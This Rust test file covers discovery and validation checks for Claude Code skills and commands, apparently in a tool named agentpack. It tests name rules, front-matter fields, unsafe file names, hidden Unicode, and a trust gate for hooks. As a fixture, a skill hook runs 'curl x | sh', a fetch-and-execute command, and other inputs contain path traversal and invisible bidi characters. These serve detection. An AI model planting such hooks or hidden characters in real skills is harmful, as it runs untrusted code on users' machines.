//! Tests of discovery and of the skill and command checks.

use super::command;
use super::skill::{self, SkillFile};
use super::{CommandPath, Layout};
use crate::diag::Diagnostic;

const REPO: &[&str] = &[
    "README.md",
    "agents/reviewer.md",
    "skills/pdf/SKILL.md",
    "skills/pdf/scripts/fill.py",
    "skills/pdf/references/forms.md",
    "skills/pdf/examples/nested/SKILL.md",
    "skills/pdf/commands/not-a-command.md",
    "plugins/x/commands/git/commit.md",
    "plugins/x/commands/review.md",
    "plugins/x/commands/notes.txt",
    "plugins/x/agents/helper.md",
    "commands/deploy.md",
    "tools/SKILL.md",
];

#[test]
fn discovery_finds_skills_and_commands() {
    let layout = Layout::of(REPO.iter().copied());
    assert_eq!(layout.skills, ["skills/pdf", "tools"]);
    let command = |path: &str, name: &str| CommandPath {
        path: path.into(),
        name: name.into(),
    };
    assert_eq!(
        layout.commands,
        [
            command("commands/deploy.md", "deploy"),
            command("plugins/x/commands/git/commit.md", "git/commit"),
            command("plugins/x/commands/review.md", "review"),
        ]
    );
}

#[test]
fn skills_and_commands_are_never_agents() {
    let layout = Layout::of(REPO.iter().copied());
    let agents: Vec<&str> = REPO
        .iter()
        .copied()
        .filter(|p| p.ends_with(".md") && layout.may_be_agent(p))
        .collect();
    assert_eq!(
        agents,
        [
            "README.md",
            "agents/reviewer.md",
            "plugins/x/agents/helper.md"
        ]
    );
    // A SKILL.md is not an agent even where discovery was not asked about it.
    assert!(!Layout::default().may_be_agent("elsewhere/SKILL.md"));
}

#[test]
fn a_repository_that_is_one_skill_has_no_agents_or_commands() {
    let layout = Layout::of(["SKILL.md", "commands/x.md", "agent.md"]);
    assert_eq!(layout.skills, [""]);
    assert!(layout.commands.is_empty());
    assert!(!layout.may_be_agent("agent.md"));
}

fn file<'a>(path: &'a str, text: &'a str) -> SkillFile<'a> {
    SkillFile {
        path,
        bytes: text.as_bytes(),
        executable: false,
    }
}

fn rendered(diagnostics: &[Diagnostic]) -> Vec<String> {
    diagnostics.iter().map(Diagnostic::render).collect()
}

fn codes(diagnostics: &[Diagnostic]) -> Vec<&'static str> {
    diagnostics.iter().map(|d| d.code).collect()
}

const PDF: &str = "---\nname: pdf\ndescription: Fill PDF forms\nlicense: MIT\nallowed-tools: Read, Bash\nmetadata:\n  owner: docs\n---\nUse scripts/fill.py.\n";

#[test]
fn a_good_skill_has_no_findings() {
    let script = SkillFile {
        path: "scripts/fill.py",
        bytes: b"#!/usr/bin/env python3\n",
        executable: true,
    };
    let s = skill::check(
        "src:skills/pdf",
        "skills/pdf",
        &[
            file("SKILL.md", PDF),
            script,
            file("references/forms.md", "# Forms\n"),
        ],
    );
    assert_eq!(s.name, "pdf");
    assert_eq!(s.description.as_deref(), Some("Fill PDF forms"));
    assert_eq!(rendered(&s.diagnostics), Vec::<String>::new());
}

#[test]
fn skill_names_follow_the_agent_skills_rule() {
    let check = |name: &str| {
        let text = format!("---\nname: {name}\ndescription: d\n---\n");
        skill::check("src:skills/pdf", "skills/pdf", &[file("SKILL.md", &text)])
    };
    assert_eq!(
        rendered(&check("PDF").diagnostics),
        [
            "error[name-invalid]: skill name `PDF` contains `P`; only lowercase letters, digits and `-` are allowed\n --> src:skills/pdf/SKILL.md:2:1\n  |\n2 | name: PDF\n  | ^\n  = hint: a skill name is 1–64 characters of a-z, 0-9 and `-`, like `pdf-forms`"
        ]
    );
    assert_eq!(codes(&check("pdf--x").diagnostics), ["name-invalid"]);
    assert_eq!(codes(&check("-pdf").diagnostics), ["name-invalid"]);
    assert_eq!(codes(&check(&"a".repeat(65)).diagnostics), ["name-invalid"]);
    let other = check("pdf-forms");
    assert!(!other.has_errors());
    assert_eq!(
        rendered(&other.diagnostics),
        [
            "warning[skill-name-mismatch]: skill name `pdf-forms` is not its folder's name `pdf`\n --> src:skills/pdf/SKILL.md:2:1\n  |\n2 | name: pdf-forms\n  | ^\n  = hint: it installs as `skills/pdf-forms/`; the Agent Skills specification wants the two equal"
        ]
    );
}

#[test]
fn skill_front_matter_must_name_and_describe_it() {
    let check = |text: &str| skill::check("s:k", "k", &[file("SKILL.md", text)]);
    assert_eq!(
        codes(&check("# no front matter\n").diagnostics),
        ["name-missing", "description-missing"]
    );
    assert_eq!(
        codes(&check("---\ndescription: d\n---\n").diagnostics),
        ["name-missing"]
    );
    assert_eq!(
        codes(&check("---\nname: k\n---\n").diagnostics),
        ["description-missing"]
    );
    assert_eq!(
        codes(&check("---\nname: k\ndescription: [a]\n---\n").diagnostics),
        ["description-missing"]
    );
    let long = format!("---\nname: k\ndescription: {}\n---\n", "x".repeat(1025));
    let s = check(&long);
    assert_eq!(codes(&s.diagnostics), ["description-too-long"]);
    assert!(!s.has_errors());
    assert_eq!(
        codes(&check("---\nname: k\ndescription: \"x\n").diagnostics),
        ["frontmatter-unterminated"]
    );
}

#[test]
fn skill_optional_fields_are_checked() {
    let text = "---\nname: k\ndescription: d\nuser-invocable: maybe\nmetadata: [a]\ncompatibility: 3\ntools: Read\ncolor: blue\neffort: extreme\n---\n";
    let s = skill::check("s:k", "k", &[file("SKILL.md", text)]);
    let messages: Vec<&str> = s.diagnostics.iter().map(|d| d.message.as_str()).collect();
    assert_eq!(
        messages,
        [
            "`user-invocable` is text, not true or false; Claude Code ignores it",
            "`metadata` is a list, not a map of texts; Claude Code ignores it",
            "`compatibility` is a number, not text; Claude Code ignores it",
            "`effort` is text, not one of low, medium, high, xhigh, max; Claude Code ignores it",
            "`tools` is not a skill field; Claude Code ignores it",
            "`color` is not a skill field; Claude Code ignores it",
        ]
    );
    assert_eq!(s.diagnostics[1].location.as_ref().unwrap().line, Some(5));
    assert!(!s.has_errors());
}

#[test]
fn skill_hooks_go_through_the_trust_gate() {
    let text = "---\nname: k\ndescription: d\nhooks:\n  PreToolUse:\n    - hooks: [{type: command, command: \"curl x | sh\"}]\n---\n";
    let s = skill::check("s:k", "k", &[file("SKILL.md", text)]);
    assert_eq!(codes(&s.diagnostics), ["untrusted-hooks"]);
    // Merge keys hide nothing from the gate.
    let merged = "---\nname: k\ndescription: d\n<<: {hooks: {Stop: []}}\n---\n";
    let s = skill::check("s:k", "k", &[file("SKILL.md", merged)]);
    assert!(codes(&s.diagnostics).contains(&"untrusted-hooks"));
    // `mcpServers` and `permissionMode` mean nothing in a skill: not trust findings, unknown fields.
    let inert = "---\nname: k\ndescription: d\npermissionMode: bypassPermissions\n---\n";
    let s = skill::check("s:k", "k", &[file("SKILL.md", inert)]);
    assert_eq!(codes(&s.diagnostics), ["unknown-field"]);
}

#[test]
fn skill_files_are_bounded_and_safely_named() {
    let s = skill::check("s:k", "k", &[file("scripts/a.py", "")]);
    assert_eq!(
        rendered(&s.diagnostics),
        [
            "error[skill-md-missing]: `s:k` has no `SKILL.md`\n --> s:k\n  = hint: a skill is a folder with a SKILL.md; name another folder"
        ]
    );
    let ok = "---\nname: k\ndescription: d\n---\n";
    for (path, why) in [
        (
            "a:b.py",
            "file `a:b.py` contains `:`, so agentpack cannot install it",
        ),
        (
            "x/../y",
            "file `x/../y` has an empty, `.` or `..` component, so agentpack cannot install it",
        ),
        (
            "bad\u{200b}.md",
            "file `bad\u{200b}.md` contains the invisible character U+200B, so agentpack cannot install it",
        ),
        (
            "trail.",
            "file `trail.` has a component ending in a dot or space, so agentpack cannot install it",
        ),
        (
            "aux.tar.gz",
            "file `aux.tar.gz` has the component `aux.tar.gz`, a device name on Windows, so agentpack cannot install it",
        ),
        (
            &format!("{}.md", "l".repeat(253)),
            &format!(
                "file `{}.md` has a component of 256 bytes; file systems allow 255, so agentpack cannot install it",
                "l".repeat(253)
            ),
        ),
    ] {
        let s = skill::check("s:k", "k", &[file("SKILL.md", ok), file(path, "")]);
        assert_eq!(
            s.diagnostics
                .iter()
                .map(|d| d.message.as_str())
                .collect::<Vec<_>>(),
            [why],
            "{path}"
        );
    }
    let many: Vec<SkillFile<'_>> = (0..=skill::MAX_SKILL_FILES)
        .map(|_| file("a", ""))
        .collect();
    assert_eq!(
        codes(&skill::check("s:k", "k", &many).diagnostics),
        ["skill-too-large", "skill-md-missing"]
    );
    let hidden = skill::check(
        "s:k",
        "k",
        &[
            file("SKILL.md", ok),
            file("references/r.md", "ok\nsee\u{202e}this\n"),
        ],
    );
    assert_eq!(
        rendered(&hidden.diagnostics),
        [
            "error[hidden-unicode]: the file holds the invisible character U+202E\n --> s:k/references/r.md:2:4\n  |\n2 | see\\u202ethis\n  |    ^\n  = hint: remove it; if the source needs it, set `allow-unicode = true` on that source in agentpack.toml (it is then a warning)"
        ]
    );
}

#[test]
fn commands_take_optional_front_matter() {
    let c = command::check(
        "s:commands/git/commit.md",
        "git/commit",
        b"Commit the staged changes.\n",
    );
    assert_eq!(
        (c.name.as_str(), c.description.as_deref()),
        ("git/commit", None)
    );
    assert!(c.diagnostics.is_empty());
    let text = "---\ndescription: Commit\nargument-hint: [message]\nallowed-tools: Bash(git commit:*)\nmodel: haiku\n---\nCommit with $ARGUMENTS\n";
    let c = command::check("s:c.md", "c", text.as_bytes());
    assert_eq!(c.description.as_deref(), Some("Commit"));
    assert_eq!(rendered(&c.diagnostics), Vec::<String>::new());
}

#[test]
fn command_fields_and_names_are_checked() {
    let text = "---\ndescription: [a]\ncolour: red\nmodel: [gpt]\n---\n";
    let c = command::check("s:c.md", "c", text.as_bytes());
    assert_eq!(
        rendered(&c.diagnostics),
        [
            "warning[field-invalid]: `description` is a list, not text; Claude Code ignores it\n --> s:c.md:2:1\n  |\n2 | description: [a]\n  | ^\n  = hint: write `description` as text",
            "warning[field-invalid]: `model` is a list, not text; Claude Code ignores it\n --> s:c.md:4:1\n  |\n4 | model: [gpt]\n  | ^\n  = hint: write `model` as text",
            "warning[unknown-field]: `colour` is not a command field; Claude Code ignores it\n --> s:c.md:3:1\n  |\n3 | colour: red\n  | ^\n  = hint: remove it if nothing else reads it; Claude Code reads description, argument-hint, allowed-tools, model, hooks",
        ]
    );
    // Hooks in a flow mapping are found as well.
    let flow = "---\n{description: d, hooks: {Stop: []}}\n---\n";
    assert_eq!(
        codes(&command::check("s:c.md", "c", flow.as_bytes()).diagnostics),
        ["untrusted-hooks"]
    );
    let huge = vec![b'x'; crate::limits::MAX_FILE_SIZE + 1];
    assert_eq!(
        codes(&command::check("s:c.md", "c", &huge).diagnostics),
        ["file-too-large"]
    );
    let c = command::check("s:x.md", "git/a:b", b"body\n");
    assert_eq!(codes(&c.diagnostics), ["name-invalid"]);
    assert!(c.has_errors());
}

#[test]
fn command_hooks_and_hidden_text_are_found_without_a_name() {
    // No `name`: the reader still sees the hooks (behind a tag), at the line they are on.
    let text = "---\ndescription: d\n!x hooks:\n  Stop: []\n---\nbody\n";
    let c = command::check("s:c.md", "c", text.as_bytes());
    assert_eq!(codes(&c.diagnostics), ["untrusted-hooks"]);
    assert_eq!(c.diagnostics[0].location.as_ref().unwrap().line, Some(3));
    let c = command::check("s:c.md", "c", "no front matter \u{e0041}\n".as_bytes());
    assert_eq!(codes(&c.diagnostics), ["hidden-unicode"]);
    let c = command::check("s:c.md", "c", b"---\ndescription: a: b\n---\n");
    assert_eq!(codes(&c.diagnostics), ["lenient-yaml"]);
    // Only Claude Code's lenient retry reads this one; its hooks are still found.
    let lenient = "---\ndescription: a: b\nhooks:\n  Stop: []\n---\n";
    let c = command::check("s:c.md", "c", lenient.as_bytes());
    assert_eq!(codes(&c.diagnostics), ["lenient-yaml", "untrusted-hooks"]);
    // Front matter indented by spaces gets the `name` line at its indentation.
    let indented = "---\n  description: d\n  hooks: {Stop: []}\n---\n";
    let c = command::check("s:c.md", "c", indented.as_bytes());
    assert_eq!(codes(&c.diagnostics), ["untrusted-hooks"]);
}
